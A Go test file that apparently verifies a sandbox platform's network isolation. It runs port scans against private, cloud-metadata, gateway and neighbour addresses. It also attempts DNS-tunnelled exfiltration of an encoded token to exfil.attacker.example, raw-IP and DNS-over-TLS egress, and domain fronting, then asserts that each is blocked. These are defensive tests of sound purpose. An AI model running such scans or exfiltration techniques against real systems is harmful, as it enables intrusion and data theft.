package hostile

import (
	"context"
	"fmt"
	"net"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/warrenhq/warren/api"
)

// A port scan from a sandbox with an open network connects nowhere it
// must not: private and link-local (cloud metadata) addresses that the
// test places on its fake internet, the node's gateway address, another
// sandbox's address, and this host's own addresses at the apiserver's
// port. A server on the fake internet's public range answers the same
// scan, so the scan could have connected.
func testPortScan(t *testing.T, p *platform) {
	p.serve(t, "203.0.113.10:80")
	private := p.inet.Route("10.99.7.0/24")
	metadata := p.inet.Route("169.254.169.254/32")
	var forbidden []*atomic.Int64
	for _, a := range []string{private.String(), metadata.String()} {
		forbidden = append(forbidden, p.serve(t, net.JoinHostPort(a, "80")), p.serve(t, net.JoinHostPort(a, "22")))
	}

	open := func(r *api.CreateSandboxRequest) { r.Network = &api.NetworkPolicy{Mode: api.NetworkOpen} }
	neighbour := p.sandbox(t, open)
	p.sh(t, neighbour, "mkdir -p /www && echo hi > /www/index.html && (httpd -f -p 0.0.0.0:8080 -h /www </dev/null >/dev/null 2>&1 &)")
	scanner := p.sandbox(t, open)
	nb, err := p.c.GetSandbox(context.Background(), neighbour)
	if err != nil || nb.Network == nil || nb.Network.Address == "" {
		t.Fatalf("the neighbour's address: %+v, %v", nb, err)
	}
	gateway := strings.TrimSpace(p.sh(t, scanner, "ip route | awk '/default/ { print $3 }'").Stdout)
	if gateway == "" {
		t.Fatal("no default route in the scanner")
	}
	_, apiPort, _ := strings.Cut(p.up.Addr, ":")
	targets := []string{
		private.String() + ":80", private.String() + ":22",
		metadata.String() + ":80", metadata.String() + ":22",
		nb.Network.Address + ":8080",
		gateway + ":" + apiPort, gateway + ":22", gateway + ":2379",
	}
	for _, a := range hostAddrs(t) {
		targets = append(targets, net.JoinHostPort(a, apiPort))
	}
	t.Logf("scanning %v", targets)
	if r := p.sh(t, scanner, "/attack connect "+strings.Join(targets, " ")); r.Stdout != "connect: 0 connected\n" {
		t.Errorf("the scan: %q %q", r.Stdout, r.Stderr)
	}
	if r := p.sh(t, scanner, "/attack connect 203.0.113.10:80"); r.Stdout != "connect: 1 connected\n" {
		t.Errorf("the control (a public address): %q %q", r.Stdout, r.Stderr)
	}
	for _, n := range forbidden {
		if n.Load() != 0 {
			t.Errorf("%d connections reached a private or metadata server", n.Load())
		}
	}
	sb, err := p.c.GetSandbox(context.Background(), scanner)
	if err != nil || sb.Network == nil || sb.Network.DeniedConnections == 0 {
		t.Errorf("denied connections not counted: %+v, %v", sb.Network, err)
	}
}

// serve listens on addr in the fake internet until t ends, answers each
// connection with a small HTTP response (for TLS clients, garbage) and
// counts them.
func (p *platform) serve(t *testing.T, addr string) *atomic.Int64 {
	var n atomic.Int64
	ln := p.inet.Listen(addr)
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			n.Add(1)
			go func() {
				c.Write([]byte("HTTP/1.0 200 OK\r\nContent-Length: 3\r\n\r\nyes"))
				time.Sleep(100 * time.Millisecond)
				c.Close()
			}()
		}
	}()
	return &n
}

// hostAddrs are this host's IPv4 addresses other than loopback.
func hostAddrs(t *testing.T) []string {
	ifs, err := net.InterfaceAddrs()
	if err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, a := range ifs {
		if n, ok := a.(*net.IPNet); ok && n.IP.To4() != nil && !n.IP.IsLoopback() {
			out = append(out, n.IP.String())
		}
	}
	return out
}

// Egress past an allowlist of one name ("pypi.org"): DNS for other names
// and tunnelled through a name is answered by the node and never reaches
// the upstream resolver; raw IPs, DNS-over-TLS, and HTTP or TLS to the
// allowed name's address naming another host (domain fronting) reach
// nothing; the same requests naming pypi.org do (the control). Everything
// refused is counted.
func testEgress(t *testing.T, p *platform) {
	web, tlsSrv, other, dot := p.serve(t, "203.0.113.10:80"), p.serve(t, "203.0.113.10:443"), p.serve(t, "203.0.113.77:80"), p.serve(t, "203.0.113.53:853")
	id := p.sandbox(t, func(r *api.CreateSandboxRequest) { r.Network = &api.NetworkPolicy{Allow: []string{"pypi.org"}} })
	get := func(host string) string {
		return p.sh(t, id, fmt.Sprintf(`printf 'GET / HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' | nc -w 3 203.0.113.10 80`, host)).Stdout
	}

	p.sh(t, id, "nslookup pypi.org >/dev/null 2>&1; nslookup evil.example; nslookup c2VjcmV0LXRva2Vu.exfil.attacker.example; true")
	for _, name := range []string{"evil.example", "c2vjcmv0lxrva2vu.exfil.attacker.example"} {
		if p.dns.Asked(name) {
			t.Errorf("%s reached the upstream resolver", name)
		}
	}
	if r := p.sh(t, id, "/attack connect 203.0.113.77:80 203.0.113.53:853"); r.Stdout != "connect: 0 connected\n" || other.Load()+dot.Load() != 0 {
		t.Errorf("raw IP and DoT: %q, %d and %d accepted", r.Stdout, other.Load(), dot.Load())
	}
	if out := get("evil.example"); strings.Contains(out, "yes") || web.Load() != 0 {
		t.Errorf("HTTP fronted as evil.example: %q, %d accepted", out, web.Load())
	}
	p.sh(t, id, "/attack hello 203.0.113.10:443 evil.example")
	if n := tlsSrv.Load(); n != 0 {
		t.Errorf("TLS fronted as evil.example: %d connections reached the server", n)
	}
	// The controls: the allowed name gets through.
	if out := get("pypi.org"); !strings.Contains(out, "yes") {
		t.Errorf("HTTP to pypi.org: %q", out)
	}
	p.sh(t, id, "/attack hello 203.0.113.10:443 pypi.org")
	if n := tlsSrv.Load(); n != 1 {
		t.Errorf("TLS to pypi.org: %d connections reached the server, want 1", n)
	}
	sb, err := p.c.GetSandbox(context.Background(), id)
	if err != nil || sb.Network == nil || sb.Network.DeniedConnections < 3 || sb.Network.DeniedQueries < 2 {
		t.Errorf("refusals not counted: %+v, %v", sb.Network, err)
	}
}
